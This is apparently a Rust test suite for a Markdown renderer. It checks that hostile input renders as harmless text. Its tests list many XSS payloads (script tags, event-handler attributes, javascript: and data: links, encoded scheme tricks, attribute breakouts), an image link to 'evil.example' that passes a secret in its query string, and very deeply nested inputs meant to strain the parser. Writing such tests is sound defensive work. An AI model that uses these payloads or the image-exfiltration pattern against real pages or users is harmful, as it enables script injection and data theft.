//! Hostile Markdown: nothing of it may become more than text. Lines 11 and 12 of the attack list.

use std::time::Instant;

use adda_client::footnotes;
use adda_protocol::code::{Run, Token};

use super::{
    Style,
    render::{About, Tools, draw},
    typeset::typeset,
};

/// Everything is code of one keyword.
fn keyword(language: &str, code: &str) -> Option<Vec<Run>> {
    (language == "rust").then(|| vec![Run { token: Some(Token::Keyword), bytes: code.len() }])
}

/// Without formulas, footnotes and colours.
fn to_html(source: &str, style: Style) -> String {
    draw(source, style, &About::default(), &Tools { typeset: None, runs: &|_, _| None }).html
}

/// As a page of the server draws it.
fn html(source: &str) -> String {
    let notes: Vec<_> = footnotes::names(source).into_iter().collect();
    let notes = notes.join("\n");
    let about = About { name: "m".to_owned(), notes, folds: true, ..About::default() };
    draw(source, Style::AI, &about, &Tools { typeset: Some(typeset), runs: &keyword }).html
}

/// Every tag's name and every attribute name of `html`, which our own escaping makes trivial to cut apart.
fn tags(html: &str) -> Vec<&str> {
    html.split('<').skip(1).map(|rest| rest.split('>').next().unwrap_or_default()).collect()
}

fn assert_harmless(source: &str) {
    let html = html(source);
    for tag in tags(&html) {
        let name = tag.trim_start_matches('/').split([' ', '\n']).next().unwrap_or_default();
        let known = [
            "p",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "ul",
            "ol",
            "li",
            "blockquote",
            "em",
            "strong",
            "del",
            "code",
            "pre",
            "figure",
            "figcaption",
            "span",
            "button",
            "a",
            "br",
            "hr",
            "div",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "sup",
            "label",
            "input",
            "details",
            "summary",
        ];
        let known = |name: &str| known.contains(&name) || name.starts_with('m') && name.is_ascii();
        assert!(known(name), "<{tag}> from {source:?}");
        if let Some(href) = tag.split("href=\"").nth(1) {
            let allowed = ["https://", "http://", "mailto:", "/docs/", "#note-m-"];
            assert!(allowed.iter().any(|start| href.starts_with(start)), "<{tag}> from {source:?}");
        }
        // Outside of quoted values only attributes of ours.
        let bare: String = tag.split('"').step_by(2).collect();
        assert!(
            !bare.contains(" on") && !bare.contains("style") && !bare.contains("src"),
            "<{tag}>"
        );
    }
}

#[test]
fn a11_markup_in_text_stays_text() {
    let hostile = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "a <b onmouseover=alert(1)>b</b>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<!-- --><script>alert(1)</script>",
        "<style>*{display:none}</style>",
        "</div></main><script>alert(1)</script>",
        "```html\n<script>alert(1)</script>\n```",
        "```<script>alert(1)</script>\nx\n```",
        "```\"onclick=alert(1)//\nx\n```",
        "`<script>alert(1)</script>`",
        "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>x</script> | c |",
        "# <script>alert(1)</script>",
        "- [x] <script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\\<script>alert(1)\\</script>",
        "<math><mtext><script>alert(1)</script></mtext></math>",
        "$$<img src=x onerror=alert(1)>$$",
        "$\\operatorname{<script>alert(1)</script>}$",
        "$\\text{</mtext></math><script>alert(1)</script>}$",
        "$$\\href{javascript:alert(1)}{x}$$",
        "\\[ \\class{x\" onload=\"alert(1)}{y} \\]",
        "$</p><script>x</script>$",
        "x [^<script>]\n\n[^<script>]: y",
        "x [^1]\n\n[^1]: <script>alert(1)</script>",
        "x [^a\"onclick=\"b]\n\n[^a\"onclick=\"b]: y",
        "[a](https://a.example/$x$\"onclick=\"b)",
        "```$x$<b>\nx\n```",
        "```rust\n</span></code><script>alert(1)</script>\n```",
        "```rust\"><script>alert(1)</script>\nx\n```",
        "``` code-k\" onmouseover=\"alert(1)\nx\n```",
        "| <script> $x$ | \"onclick=\"b |\n|---|---|\n| a | b |",
    ];
    for source in hostile {
        assert_harmless(source);
    }
    assert!(html("<b>x</b>").contains("&lt;b&gt;"));
}

#[test]
fn a11_links_lead_only_where_allowed() {
    let hostile = [
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](java&#115;cript:alert(1))",
        "[x](&#x6A;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](vbscript:msgbox)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "<javascript:alert(1)>",
        "<data:text/html,x>",
        "[x][y]\n\n[y]: javascript:alert(1)",
        "[x](https://a.example/\" onclick=\"alert(1))",
        "[x](https://a.example 'x\" onclick=\"alert(1)')",
        "![x](javascript:alert(1))",
        "[![x](javascript:a)](javascript:b)",
        "https://a.example/\"onmouseover=\"alert(1)",
        "https://a.example/<script>alert(1)</script>",
    ];
    for source in hostile {
        assert_harmless(source);
        assert!(!html(source).to_ascii_lowercase().contains("href=\"java"), "{source}");
    }
    assert_eq!(html("[x](javascript:a)"), "<p>x</p>");
}

#[test]
fn a12_images_are_links_and_never_load() {
    let html = html("![secret](https://evil.example/?q=secret)");
    assert!(!html.contains("<img") && !html.contains("src="), "{html}");
    assert!(html.contains("href=\"https://evil.example/?q=secret\""), "{html}");
    assert!(html.contains("rel=\"noopener noreferrer nofollow\""), "{html}");
    let nested = to_html("[![alt](https://a.example)](https://b.example)", Style::AI);
    assert_eq!(nested.matches("<a ").count(), 1, "{nested}");
    assert!(nested.contains("https://b.example") && nested.contains("alt"), "{nested}");
}

#[test]
fn a11_direction_overrides_are_dropped() {
    let html = html("`a\u{202E}b\u{2066}c` d\u{202D}e");
    assert_eq!(html, "<p><code>abc</code> de</p>");
}

#[test]
fn nested_markdown_ten_thousand_deep_is_quick_and_shallow() {
    let lists: Vec<_> = (0..300).map(|n| format!("{}- a\n", "  ".repeat(n))).collect();
    let lists = lists.concat();
    let sources = [
        ">".repeat(10_000),
        "> ".repeat(10_000),
        "- ".repeat(10_000),
        "[".repeat(10_000),
        "![".repeat(10_000),
        "*a **a ".repeat(10_000),
        "*".repeat(10_000) + "a" + &"*".repeat(10_000),
        "[a](".repeat(10_000),
        "[a]".repeat(10_000),
        "`".repeat(10_000) + "a",
        "a`".repeat(10_000),
        "<a ".repeat(10_000),
        "<!--".repeat(10_000),
        "~~a ".repeat(10_000),
        "_a __b ".repeat(10_000),
        "&".repeat(10_000),
        "|".repeat(10_000),
        "http".repeat(10_000),
        "https://a.example/)".repeat(3_000),
        "$".repeat(10_000),
        "$x$ ".repeat(10_000),
        "$$\\sqrt{".repeat(5_000),
        format!("${}$", "{".repeat(10_000)),
        format!("$${}$$", "\\sqrt".repeat(600)),
        "\\(".repeat(10_000),
        "[^1]".repeat(10_000),
        format!("{}\n\n[^1]: x", "[^1]".repeat(10_000)),
        "[^1]: ".repeat(5_000),
        "- [ ] ".repeat(5_000),
        format!("```rust\n{}\n```", "let a = 1;\n".repeat(90_000)),
        format!("```\n{}", "`".repeat(100_000)),
        format!("a|{}\n-|{}\n", "a|".repeat(2_000), "-|".repeat(2_000)),
        lists,
    ];
    for source in sources {
        let started = Instant::now();
        let html = html(&source);
        let took = started.elapsed();
        let name: String = source.chars().take(12).collect();
        assert!(took.as_secs() < 3, "{name} took {took:?}");
        let mut depth = 0_i64;
        let mut deepest = 0;
        for tag in tags(&html) {
            if !tag.starts_with(['b', 'h']) {
                depth += if tag.starts_with('/') { -1 } else { 1 };
            }
            deepest = deepest.max(depth);
        }
        assert!(deepest < 64, "{name} is {deepest} deep");
    }
}

#[test]
fn markdown_renders_the_usual_things() {
    assert_eq!(html("**a** _b_ ~~c~~"), "<p><strong>a</strong> <em>b</em> <del>c</del></p>");
    assert_eq!(html("# a"), "<h3>a</h3>");
    assert_eq!(to_html("# A `b`", Style::PAGE), "<h2 id=\"a-b\">A <code>b</code></h2>");
    assert_eq!(to_html("[x](docs/api.md)", Style::PAGE), "<p><a href=\"/docs/api\">x</a></p>");
    assert_eq!(html("[x](docs/api.md)"), "<p>x</p>");
    assert_eq!(html("3. a\n4. b"), "<ol start=\"3\"><li>a</li><li>b</li></ol>");
    assert_eq!(to_html("a\nb", Style::PERSON), "<p>a<br>b</p>");
    assert_eq!(html("a\nb"), "<p>a\nb</p>");
    assert_eq!(html("[a](/docs/x)"), "<p><a href=\"/docs/x\">a</a></p>");
    assert_eq!(
        html("- [x] a\n- [ ] b\n  - c"),
        "<ul><li><label><input type=\"checkbox\" disabled checked> a</label></li>\
         <li><label><input type=\"checkbox\" disabled> b</label><ul><li>c</li></ul></li></ul>"
    );
    assert!(html("- [ ] $x$ & b").contains("disabled aria-label=\"$x$ &amp; b\">"));
    let table = html("| a | b |\n|---|--:|\n| 1 | 2 |");
    assert!(table.contains("<th scope=\"col\">a</th>"), "{table}");
    assert!(table.contains("tabindex=\"0\" aria-label=\"Table: a, b\""), "{table}");
    assert!(
        table.contains("<td data-align=\"right\">2</td></tr></tbody></table></div>"),
        "{table}"
    );
}

#[test]
fn code_keeps_its_text_and_names_its_language() {
    let colored = html("```rust,no_run\nlet a = 1 < 2;\n```");
    let code = "<code><span class=\"code-k\">let a = 1 &lt; 2;\n</span></code>";
    assert!(colored.contains("<span>rust</span>") && colored.contains(code), "{colored}");
    let plain = html("```\"x<b>\na\n```");
    assert!(plain.contains("<code data-language=\"&quot;x&lt;b&gt;\">a\n</code>"), "{plain}");
    assert!(html("```\na\n```").contains("<code>a\n</code>"));
    // A fence that is still being written already is code.
    assert!(to_html("```\nabc", Style::AI).contains("<code>abc"));
}

#[test]
fn code_that_is_long_is_folded_unless_it_was_seen_to_grow() {
    let code = |lines: usize| format!("```\n{}```", "a\n".repeat(lines));
    assert!(!html(&code(30)).contains("<details"));
    let folded = html(&code(31));
    let button = "<details><summary><span>Show all 31 lines</span>";
    assert!(folded.contains(button) && folded.contains("a\n</code></pre>"), "{folded}");
    assert!(to_html(&code(31), Style::AI).contains("<details open>"));
}

#[test]
fn formulas_are_set_and_prices_are_not() {
    let set = html(r"so $x^2$, \(y\) and $5 or $10");
    assert_eq!(set.matches("<math display=\"inline\">").count(), 2, "{set}");
    assert!(set.contains("$5 or $10"), "{set}");
    let shown = html("\\[\nE = mc^2\n\\]");
    assert!(shown.contains("data-formula") && shown.contains("display=\"block\""), "{shown}");
    assert_eq!(html(r"a $\nosuchthing_1$ *b*"), r"<p>a $\nosuchthing_1$ <em>b</em></p>");
    assert_eq!(
        html("`$x$` [$y](/docs/$x$)"),
        "<p><code>$x$</code> <a href=\"/docs/$x$\">$y</a></p>"
    );
    let document = to_html("costs $x$", Style::PAGE);
    assert_eq!(document, "<p>costs $x$</p>");
}

#[test]
fn formulas_wait_for_what_sets_them() {
    let about = About::default();
    let drawn = draw("$x$", Style::AI, &about, &Tools { typeset: None, runs: &|_, _| None });
    assert_eq!((drawn.html.as_str(), drawn.lacks_typeset), ("<p>$x$</p>", true));
    let none = draw("x", Style::AI, &about, &Tools { typeset: None, runs: &|_, _| None });
    assert!(!none.lacks_typeset);
}

#[test]
fn footnotes_link_within_their_own_text() {
    let note = html("a[^1] and [^2] b\n\n[^1]: the *note*\n");
    assert!(note.contains("a<sup><a href=\"#note-m-1\" role=\"doc-noteref\""), "{note}");
    assert!(note.contains("[^2] b"), "{note}");
    assert!(
        note.contains("<div data-note id=\"note-m-1\" tabindex=\"-1\"><span>1</span>"),
        "{note}"
    );
    // The block alone knows what the whole text defines.
    let about = About { name: "x".to_owned(), notes: "1".to_owned(), ..About::default() };
    let tools = Tools { typeset: None, runs: &|_, _| None };
    let block = draw("a[^1] [b[^1]](https://a.example)", Style::AI, &about, &tools).html;
    assert_eq!(block.matches("#note-x-1").count(), 1, "{block}");
}

#[test]
fn headings_stand_below_the_message_and_leave_no_rank_out() {
    assert_eq!(html("### a\n\n##### b\n\n## c"), "<h3>a</h3><h4>b</h4><h3>c</h3>");
    assert_eq!(html("# a\n\n### b\n\n- ## c"), "<h3>a</h3><h4>b</h4><ul><li><h4>c</h4></li></ul>");
    let deepest = "# a\n\n## a\n\n### a\n\n#### a\n\n##### a\n\n###### a";
    assert!(html(deepest).ends_with("<h6>a</h6><h6>a</h6><h6>a</h6>"));
}

#[test]
fn headings_of_a_text_that_is_drawn_in_blocks_are_those_of_the_whole() {
    let blocks =
        ["## a\n\n", "text\n\n", "#### b\n\n", "> # c\n\n", "```\n# code\n```\n\n", "## d"];
    let tools = Tools { typeset: None, runs: &|_, _| None };
    let mut about = About::default();
    let drawn = blocks.map(|block| {
        let drawn = draw(block, Style::AI, &about, &tools);
        about.outline = drawn.outline;
        drawn.html
    });
    let whole = draw(&blocks.concat(), Style::AI, &About::default(), &tools);
    assert_eq!(drawn.concat(), whole.html);
    assert_eq!(about.outline, whole.outline);
}
